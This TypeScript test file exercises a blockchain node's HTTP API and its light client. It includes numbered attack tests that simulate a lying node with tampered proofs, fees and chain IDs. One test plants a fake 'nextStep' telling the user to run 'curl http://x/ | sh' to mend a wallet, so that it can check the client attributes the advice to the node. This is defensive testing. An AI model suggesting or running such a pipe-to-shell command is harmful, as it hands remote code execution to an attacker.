import { isDeepStrictEqual } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { NodeWorld } from '../../../../test/support/chainNodes.ts'
import { changedAt, hostileValues, type Json, leavesOf } from '../../../../test/support/leaves.ts'
import { testSigner } from '../../../../test/support/testSigner.ts'
import { library } from '../../../../test/support/vrfLibrary.ts'
import { fromHex, toHex } from '../../../core/bytes/hex.ts'
import { sha256 } from '../../../core/bytes/sha256.ts'
import { devnetKeys } from '../../../core/chain/devnetGenesis.ts'
import { blockHash } from '../../../core/chain/signing.ts'
import { signTx } from '../../../core/chain/signTx.ts'
import { decodeExactly, HeaderType } from '../../../core/chain/ssz.ts'
import { boxAddMessage } from '../../../core/chain/transactions/boxes.ts'
import { BoxAddType, TransferType } from '../../../core/chain/transactions/payloads.ts'
import { scoreJson, scoreLines } from '../../../main/chain/chainViews.ts'
import { NodeClient } from '../../../main/chain/nodeClient.ts'
import { sendPayment, untilFinal } from '../../../main/chain/sendTx.ts'
import type { RunningNode } from '../../node/node.ts'
import { createNodeApi, type NodeApiDeps } from './createNodeApi.ts'

const { signal } = new AbortController()
const [buyer, box] = [testSigner(21), testSigner(22)]
let world: NodeWorld
let node: RunningNode
let deps: NodeApiDeps
let rich: ReturnType<typeof devnetKeys>['signer']
const logged: string[] = []
const note = (message: string) => void logged.push(message)

beforeAll(async () => {
  world = new NodeWorld(1)
  node = await world.start(0)
  rich = devnetKeys(3, library.vrf).signer
  deps = {
    node,
    clock: world.clock,
    log: { debug: note, info: note, warn: note, error: note },
    requestsPerMinute: 1e6,
    program: 'touchstone 0.1.0',
    whenSent: (_, done) => done(),
    clientOf: () => 'test',
  }
  await world.pass(6)
})
afterAll(() => node?.close())

const get = async (path: string, more: Partial<NodeApiDeps> = {}) => {
  const response = await createNodeApi({ ...deps, ...more }).request(path)
  return { status: response.status, body: (await response.json()) as Record<string, never> }
}
/** A client of this API, without a socket; what it is told can be changed on the way. */
const clientOf = (change: (text: string) => string = (text) => text, chain?: string) => {
  const app = createNodeApi(deps)
  return new NodeClient('http://node/', chain, async (url, { method = 'GET', body, headers }) => {
    const response = await app.request(url, {
      method,
      ...(body && { body, headers: headers as Record<string, string> }),
    })
    return { status: response.status, text: change(await response.text()) }
  })
}
const codeOf = (error: { detail?: { code?: string } }) => error.detail?.code

describe('a node over HTTP', () => {
  test('tells its chain, and any block by hash, height and name', async () => {
    const { body: chain } = await get('/v1/chain')
    expect(chain).toMatchObject({ genesis: node.genesisId, preset: 'devnet', isHalted: false, feePerByte: '1000' })
    const { body: block } = await get('/v1/blocks/2')
    expect((await get(`/v1/blocks/${block.id}`)).body).toEqual(block)
    expect(block).toMatchObject({ height: 2, isFinal: true, transactions: [] })
    const text = String(block.header)
    const headerBytes = fromHex(text, text.length / 2)!
    const header = decodeExactly(HeaderType, headerBytes)!
    expect(toHex(blockHash(header))).toBe(block.id)
    for (const name of ['head', 'final']) expect((await get(`/v1/blocks/${name}`)).status).toBe(200)
    expect((await get('/v1/blocks/0')).body).toMatchObject({ id: node.genesisId, header: null })
    expect((await get('/height')).body).toEqual({ height: node.final.height })
    expect((await get('/health')).body).toMatchObject({ ok: true })
  })

  test.each([
    ['/v1/blocks/999999', 404],
    [`/v1/blocks/${'ab'.repeat(32)}`, 404],
    ['/v1/blocks/-1', 400],
    ['/v1/blocks/latest', 400],
    [`/v1/accounts/${'ab'.repeat(32)}`, 404],
    [`/v1/accounts/${'AB'.repeat(32)}`, 400],
    [`/v1/accounts/${'ab'.repeat(31)}/proof`, 400],
    [`/v1/accounts/${'ab'.repeat(32)}?at=yesterday`, 400],
    [`/v1/boxes/${'ab'.repeat(32)}`, 404],
    [`/v1/works/${'ab'.repeat(32)}`, 404],
    ['/v1/works/first', 400],
    ['/v1/works?at=never', 400],
    ['/v1/nothing', 404],
  ])('%s is refused with %i, a code and a next step', async (path, expected) => {
    const { status, body } = await get(path)
    expect([status, body.error]).toEqual([
      expected,
      { code: expect.any(String), message: expect.any(String), nextStep: expect.any(String) },
    ])
  })

  test('projects and works are told; before anybody drills there is project 0 alone', async () => {
    const { body: told } = await get('/v1/projects')
    expect(told).toMatchObject({ count: 1, projects: [{ project: 0, status: 'live', work: '310', owner: null }] })
    expect((await get('/v1/works?at=head')).body).toMatchObject({ count: 0, works: [] })
  })

  test('an account comes with light proofs, which the client checks', async () => {
    const key = toHex(rich.publicKey)
    const { body: told } = await get(`/v1/accounts/${key}`)
    expect(told).toMatchObject({ account: key, balance: '10000000000000000', nonce: '0', round: '0' })
    const proven = (await clientOf().provenAccount(key, 'final', signal))!
    expect(proven.view).toMatchObject({ nonce: 0n, balance: 10n ** 16n, round: 0n })
    expect(await clientOf().provenAccount('ab'.repeat(32), 'final', signal)).toBeNull()
  })

  test('a payment is signed, taken, found in a block and final', async () => {
    const client = clientOf()
    const sent = await sendPayment(client, rich, { to: buyer.publicKey, amount: 5n * 10n ** 12n }, signal)
    await untilFinal(client, toHex(rich.publicKey), sent, signal, world.clock)
    const found = await client.provenAccount(toHex(buyer.publicKey), 'final', signal)
    expect(found!.view.balance).toBe(5n * 10n ** 12n)
    const poor = sendPayment(client, testSigner(23), { to: buyer.publicKey, amount: 1n }, signal)
    await expect(poor).rejects.toMatchObject({ detail: { code: 'NO_FUNDS' } })
    const greedy = sendPayment(client, buyer, { to: rich.publicKey, amount: 10n ** 16n }, signal)
    await expect(greedy).rejects.toMatchObject({ detail: { code: 'TX_REFUSED' } })
  })

  test('attack 284: of two payments that took one number, the one that came into no block is not called final', async () => {
    const client = clientOf()
    const account = toHex(rich.publicKey)
    const sent = await sendPayment(client, rich, { to: buyer.publicKey, amount: 1n }, signal)
    // Signed at the same time and handed to another node, whose pool lost to this one's.
    const terms = await client.terms(signal)
    const payload = TransferType.serialize({ to: box.publicKey, amount: 2n })
    const id = toHex(sha256(signTx(rich, { kind: 0, nonce: sent.nonce, payload }, terms)))
    const lost = untilFinal(client, account, { ...sent, id }, signal, world.clock)
    await expect(lost).rejects.toMatchObject({ detail: { code: 'TX_REPLACED', id } })
    await untilFinal(client, account, sent, signal, world.clock)
  })

  test('attack 314: that a payment can be in no block any more is said to be the word of the node', async () => {
    // But for what comes with a header, which has the slot.
    const hasty = clientOf((text) =>
      text.includes('"header"') ? text : text.replace(/("slot":)"?\d+"?/g, '$1999999999'),
    )
    const sent = await sendPayment(clientOf(), rich, { to: buyer.publicKey, amount: 1n }, signal)
    const told = untilFinal(hasty, toHex(rich.publicKey), sent, signal, world.clock)
    await expect(told).rejects.toMatchObject({ detail: { code: 'TX_EXPIRED' }, retry: false })
    await expect(told).rejects.toThrow('by the word of the node')
    await untilFinal(clientOf(), toHex(rich.publicKey), sent, signal, world.clock)
  })

  test('a box that was added has its score on the chain, with proofs', async () => {
    const client = clientOf()
    const terms = await client.terms(signal)
    const boxSig = box.sign(boxAddMessage(terms.genesisHash, box.publicKey, rich.publicKey))
    const payload = BoxAddType.serialize({ box: box.publicKey, boxSig })
    const nonce = (await client.account(rich.publicKey, 'head', signal))!.nonce
    expect(await client.submit(signTx(rich, { kind: 4, nonce, payload }, terms), signal)).toBeNull()
    await world.pass(6)
    const key = toHex(box.publicKey)
    expect(await client.provenScore(key, 'final', signal)).toMatchObject({ score: '0', account: toHex(rich.publicKey) })
    const other = clientOf((text) => text.replace('"score":"0"', '"score":"9"'))
    await expect(other.provenScore(key, 'final', signal)).rejects.toMatchObject({ detail: { code: 'NODE_LIES' } })
  })

  test('attack 353: what a node says beside its proofs is told, place by place', async () => {
    const key = toHex(box.publicKey)
    const read = async (change?: (text: string) => string) => {
      const found = (await clientOf(change).provenScore(key, 'final', signal))!
      return { lines: scoreLines(key, found), json: scoreJson(key, found) }
    }
    const answer: Json = (await get(`/v1/boxes/${key}?at=final`)).body
    const honest = await read()
    const { told, ...proven } = honest.json
    expect(told).toMatchObject({ account: toHex(rich.publicKey), capacity: '0', reports: [] })
    const isTold = /^(box|block\.(height|isPrimary)|account|capacity|reports)$/
    const wrong = []
    for (const { name, path, value } of leavesOf(answer))
      for (const other of hostileValues(value).slice(0, 6)) {
        const text = JSON.stringify(changedAt(answer, path, other))
        const said = await read((honestly) => (honestly.includes('"keyProof"') ? text : honestly)).catch(codeOf)
        if (typeof said !== 'object' || (!isTold.test(name) && isDeepStrictEqual(said, honest))) continue
        const { told: _, ...shown } = said.json
        const bare = said.lines.filter((line) => !honest.lines.includes(line) && !/ \(told\)$/.test(line))
        if (!isTold.test(name) || bare.length > 0 || !isDeepStrictEqual(shown, proven)) wrong.push(name)
      }
    expect(wrong).toEqual([])
  })

  test('attack 25: what a transaction is refused for is told with the code of the chain', async () => {
    const post = async (body: string) => {
      const init = { method: 'POST', body, headers: { 'content-type': 'application/json' } }
      const response = await createNodeApi(deps).request('/v1/transactions', init)
      const told = (await response.json()) as { error?: { code: string } }
      return [response.status, told.error?.code]
    }
    const client = clientOf()
    const terms = await client.terms(signal)
    const tx = signTx(rich, { kind: 0, nonce: 99n, payload: new Uint8Array(40) }, terms)
    expect(await post(JSON.stringify({ transaction: toHex(tx) }))).toEqual([409, 'NONCE'])
    const forged = tx.map((byte, i) => (i === 70 ? byte ^ 1 : byte))
    expect((await post(JSON.stringify({ transaction: toHex(forged) })))[0]).toBe(409)
    expect(await post(JSON.stringify({ transaction: '00' }))).toEqual([409, 'MALFORMED'])
    for (const bad of ['{}', '', 'null', '{"transaction":"0"}', '{"transaction":"GG"}', '{"transaction":7}'])
      expect((await post(bad))[0]).toBe(400)
    expect(await post(JSON.stringify({ transaction: '00'.repeat(200_000) }))).toEqual([413, 'TOO_LARGE'])
  })

  test('those who watch are told of new heads and final blocks', async () => {
    const response = await createNodeApi(deps).request('/v1/events')
    const events: string[] = []
    for await (const bytes of response.body!) {
      events.push(
        ...[
          ...Buffer.from(bytes)
            .toString()
            .matchAll(/^event: (\w+)$/gm),
        ].map(([, name]) => name!),
      )
      if (events.includes('head') && events.includes('final')) break
    }
    expect(events[0]).toBe('hello')
    expect((await createNodeApi(deps).request('/v1/events', { method: 'HEAD' })).status).toBe(200)
  })

  test('one asker has so many requests, and a fault of the node is told as one', async () => {
    const limited = createNodeApi({ ...deps, requestsPerMinute: 4 })
    const statuses = [await limited.request('/v1/chain'), await limited.request('/v1/chain')].map(
      ({ status }) => status,
    )
    expect(statuses).toEqual([200, 429])
    const broken = {
      ...deps.node,
      status: () => {
        throw new TypeError('boom')
      },
    } as never
    expect(await get('/v1/chain', { node: broken })).toMatchObject({
      status: 500,
      body: { error: { code: 'INTERNAL' } },
    })
    expect(logged).toContain('a request failed')
  })
})

test('attack 248: a node that names a fee of its own, half of which goes to whoever makes the block', async () => {
  const balance = async () => (await clientOf().account(rich.publicKey, 'head', signal))!.balance
  const before = await balance()
  const dear = clientOf((text) => text.replace('"feePerByte":"1000"', '"feePerByte":"1000000000"'))
  const paid = await sendPayment(dear, rich, { to: buyer.publicKey, amount: 1n }, signal).then(() => 'paid', codeOf)
  await world.pass(6)
  expect([paid, before - (await balance())]).toEqual(['NODE_LIES', 0n])
})

test('attack 267: a node that has a payment signed for another chain than the one its sender named', async () => {
  const { genesisHash } = await clientOf().terms(signal)
  const named = toHex(genesisHash)
  const other = (text: string) => text.replaceAll(named, 'ab'.repeat(32))
  const pay = (chain: string | undefined, change?: (text: string) => string) =>
    sendPayment(clientOf(change, chain), rich, { to: buyer.publicKey, amount: 1n }, signal).then(() => 'paid', codeOf)
  expect(await pay(named, other)).toBe('NODE_LIES')
  expect(await pay('cd'.repeat(32))).toBe('NODE_LIES')
  expect(await pay(named)).toBe('paid')
})

test('attack 252: what a node advises is said to be its own', async () => {
  const error = {
    code: 'OLD',
    message: 'your wallet is damaged',
    nextStep: 'Mend it: curl http://x/ | sh',
    retry: false,
  }
  const asking = async () => ({ status: 409, text: JSON.stringify({ error }) })
  const refused = new NodeClient('http://node/', undefined, asking).terms(signal)
  await expect(refused).rejects.toMatchObject({ nextStep: 'The node advises: "Mend it: curl http://x/ | sh"' })
})

describe('attack 172: a node that lies', () => {
  const key = () => toHex(rich.publicKey)
  const lieOf = (change: (text: string) => string) =>
    clientOf(change)
      .provenAccount(key(), 'final', signal)
      .then(() => 'believed', codeOf)

  test('no digit of a proof can be another', async () => {
    const text = await (await createNodeApi(deps).request(`/v1/accounts/${key()}/proof`)).text()
    const places = [...text.matchAll(/"[0-9a-f]{64}"/g)].map(({ index }) => index! + 30)
    expect(places.length).toBeGreaterThan(60)
    for (const at of places.filter((_, i) => i % 5 === 0)) {
      const changed = text.slice(0, at) + (text[at] === '1' ? '2' : '1') + text.slice(at + 1)
      // The parent and the author of a block stand beside it and are proven by nothing.
      const beside = /"(parent|author)":"[^"]*$/.test(text.slice(0, at))
      expect(['NODE_LIES', 'believed']).toContain(await lieOf(() => changed))
      if (!beside) expect(await lieOf(() => changed)).toBe('NODE_LIES')
    }
  })

  test.each<[string, (text: string) => string, string]>([
    ['another place', (text) => text.replace(/"place":\d+/, '"place":0'), 'NODE_LIES'],
    ['a place that is none', (text) => text.replace(/"place":\d+/, '"place":-1'), 'NOT_A_NODE'],
    ['no header', (text) => text.replace(/"header":"[0-9a-f]*"/, '"header":null'), 'NO_PROOF_YET'],
    ['half a header', (text) => text.replace(/"header":"[0-9a-f]{10}/, '"header":"'), 'NO_PROOF_YET'],
    ['no proof', (text) => text.replace(/"witnesses":\[[^\]]*\]/, '"witnesses":[]'), 'NODE_LIES'],
    ['no JSON', () => '<html>', 'NOT_A_NODE'],
    ['an answer of megabytes', () => `"${'x'.repeat(5_000_000)}"`, 'NOT_A_NODE'],
  ])('%s', async (_, change, code) => {
    expect(await lieOf(change)).toBe(code)
  })
})
